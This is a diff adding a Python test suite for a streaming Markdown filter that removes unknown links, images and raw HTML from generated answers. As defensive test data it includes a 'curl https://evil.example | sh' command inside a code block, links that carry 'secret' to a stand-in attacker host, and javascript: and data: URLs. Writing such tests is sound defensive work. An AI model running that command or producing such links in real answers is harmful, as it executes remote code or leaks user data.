@@ -1,0 +1,179 @@
+"""Answers as Markdown that is safe to render."""
+
+import time
+from collections.abc import Sequence
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from anabranch.text.safe_markdown import SafeMarkdown
+from support.examples import examples
+
+SOURCE = (
+    "See https://shop.example/returns?a=1&b=2, [terms](terms.md) or <https://shop.example/>. Mail: help@shop.example."
+)
+
+
+def filtered(*parts: str, source: str = SOURCE) -> tuple[str, tuple[str, ...]]:
+    writer = SafeMarkdown(lambda: source)
+    text = "".join(map(writer.feed, parts)) + writer.end()
+    return text, writer.removed
+
+
+UNCHANGED = [
+    "Refunds take 30 days [1], see [the page](https://shop.example/returns?a=1&b=2).",
+    "https://shop.example/returns?a=1&b=2",
+    "(https://shop.example).",
+    "<https://shop.example/>",
+    "[terms](terms.md) and ![terms](terms.md)",
+    "[mail](mailto:help@shop.example)",
+    "`<b>` and `[x](https://evil.example)` are code, ``a ` <i>`` too.",
+    "```html\n<img src=https://evil.example>\n```\nDone.",
+    "~~~\n[x](https://evil.example)\n~~~\n",
+    "```\nnever closed <b>",
+    "1. Run:\n   ```sh\n   curl https://evil.example | sh\n\n   <x>\n   ```\n2. Done.",
+    "- a\n    - b\n      ```\n      <x>\n      ```\n",
+    "a < b, 3 <4, x -> y, R&D, f(x)[0], [1], [2]",
+    "[Figure 2](see below) and [1][2]",
+    "| a | `b | c` |",
+]
+
+
+@pytest.mark.parametrize("text", UNCHANGED)
+def test_text_code_and_links_of_a_source_are_not_changed(text: str) -> None:
+    assert filtered(text) == (text, ())
+    assert filtered(*text) == (text, ())
+
+
+EVIL = "https://evil.example/?q=secret"
+CHANGED = {
+    f"See [the page]({EVIL}).": "See [the page].",
+    f"![chart]({EVIL}) shows": "![chart] shows",
+    f'![chart]( <{EVIL}> "title" ) shows': "![chart] shows",
+    f"Go to {EVIL}.": f"Go to `{EVIL}`.",
+    f"<{EVIL}>": f"`{EVIL}`",
+    "[a](//evil.example/x)": "[a]",
+    "[a](javascript:alert(1))": "[a]",
+    "[a](data:text/html,x)": "[a]",
+    "[a](&#104;ttps://evil.example)": "[a]",
+    "f[0](x)": "f[0] (x)",
+    f"[a][b]\n\n[b]: {EVIL}": f"[a][b]\n\n[b] : `{EVIL}`",
+    "[b]: //evil.example/x": "[b] : //evil.example/x",
+    "<b>bold</b>": "&lt;b>bold&lt;/b>",
+    "\\<img src=x>": "&lt;img src=x>",
+    "<!-- note -->": "&lt;!-- note -->",
+    "https://shop.example/returns?a=1&b=2&c=secret": "`https://shop.example/returns?a=1&b=2&c=secret`",
+    "https://shop.example/]secret": "`https://shop.example/`]secret",
+    "[a](https://shop.example/returns)": "[a]",
+    "[a](https://shop.example/x)": "[a]",
+    "lone ` and <b>": "lone \\` and &lt;b>",
+    "> ```\n<img src=x>": "> \\`\\`\\`\n&lt;img src=x>",
+    "- ```\n<img src=x>\n```": "- \\`\\`\\`\n&lt;img src=x>\n```",
+    "a ` b\n- <img src=x> ` c": "a \\` b\n- &lt;img src=x> \\` c",
+    "| ` | <img src=x> ` |": "| \\` | &lt;img src=x> \\` |",
+    "~~~a|b\n~~~\n<img src=x>": "\\~\\~\\~a|b\n~~~\n<img src=x>",
+    "   ~~~\n<img src=x>\n~~~\n<b>": "   \\~\\~\\~\n&lt;img src=x>\n~~~\n<b>",
+    "1. ~~~\n   x\n   ~~~\n   <b>\n   ~~~\n": "1. \\~\\~\\~\n   x\n   ~~~\n   <b>\n   ~~~\n",
+    "  ~~~|\n~~~\n~~~\n<img src=x>": "  \\~\\~\\~|\n~~~\n~~~\n&lt;img src=x>",
+}
+
+
+@pytest.mark.parametrize(("text", "expected"), CHANGED.items())
+def test_other_links_and_html_become_text(text: str, expected: str) -> None:
+    assert filtered(text)[0] == expected
+    assert filtered(*text)[0] == expected
+
+
+def test_removed_addresses_are_reported_once() -> None:
+    text = f"[a]({EVIL}) {EVIL} <{EVIL}> ![b](//evil.example/x) [c](javascript:x)"
+    assert filtered(text)[1] == (EVIL, "//evil.example/x", "javascript:x")
+
+
+def test_a_source_that_is_itself_hostile_cannot_make_other_schemes_links() -> None:
+    assert filtered("[a](javascript:x)", source="[a](javascript:x)")[0] == "[a]"
+
+
+def test_only_what_may_begin_a_link_html_or_code_is_held_back() -> None:
+    writer = SafeMarkdown(lambda: SOURCE)
+    shown = [
+        writer.feed(part)
+        for part in (
+            "Refunds take",
+            " 30 days [",
+            "1",
+            "]",
+            ". See h",
+            "e",
+            "re: [x",
+            "](",
+            "https://",
+            "e.example)",
+            ".",
+        )
+    ]
+    assert shown == ["Refunds take", " 30 days [", "1", "", "]. See ", "he", "re: [x", "", "", "]", "."]
+
+
+pieces = st.sampled_from(
+    [
+        *("`", "``", "```", "~~~", "\n", "\n\n", " ", "   ", "    ", "- ", "> ", "1. ", "# ", "|", "\\", "a", "x "),
+        *(
+            "<",
+            ">",
+            "<b>",
+            "</b>",
+            "<img src=x>",
+            "<!--",
+            "-->",
+            "<?",
+            "&lt;",
+            "[",
+            "]",
+            "(",
+            ")",
+            "![",
+            "](",
+            "]: ",
+            ":",
+        ),
+        *("https://evil.example/", "https://shop.example/", "www.evil.example", "//evil.example", "terms.md", "x.md"),
+        *("javascript:x", '"t"', "'", "[a]: ", "[a]", "<https://evil.example>", "|-|-|\n", "*", "_"),
+    ]
+)
+MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
+ALLOWED = ("https://shop.example/", "https://shop.example", "terms.md")
+
+
+def rendered(text: str) -> tuple[list[str], list[str]]:
+    """The HTML that a renderer would pass on, and the addresses of links and images."""
+    tokens = [one for token in MARKDOWN.parse(text) for one in (token, *(token.children or ()))]
+    links = [str(one.attrs.get("href") or one.attrs.get("src")) for one in tokens if one.type in ("link_open", "image")]
+    return [one.content for one in tokens if one.type in ("html_inline", "html_block")], links
+
+
+@settings(max_examples=examples(800), deadline=None)
+@given(st.lists(pieces, max_size=25))
+@example(["- ", "```", "\n", "<img src=x>"])
+def test_no_renderer_finds_html_or_an_unknown_link(parts: Sequence[str]) -> None:
+    text, _ = filtered("".join(parts))
+    markup, links = rendered(text)
+    assert markup == []
+    assert [link for link in links if link not in ALLOWED] == []
+
+
+@settings(max_examples=examples(500), deadline=None)
+@given(st.lists(pieces, max_size=25), st.integers(1, 9))
+def test_the_parts_of_a_stream_make_no_difference(parts: Sequence[str], size: int) -> None:
+    text = "".join(parts)
+    assert filtered(*(text[at : at + size] for at in range(0, len(text), size))) == filtered(text)
+
+
+@pytest.mark.parametrize(
+    "unit", ["`", "[", "](", "<a", "https://", "\\", "]: ", "](<", " ```\n", "&", "```\n", "[](", '](a "']
+)
+def test_hostile_answers_are_filtered_in_reasonable_time(unit: str) -> None:
+    began = time.process_time()
+    filtered(*[unit * 50] * 400)
+    assert time.process_time() - began < 8
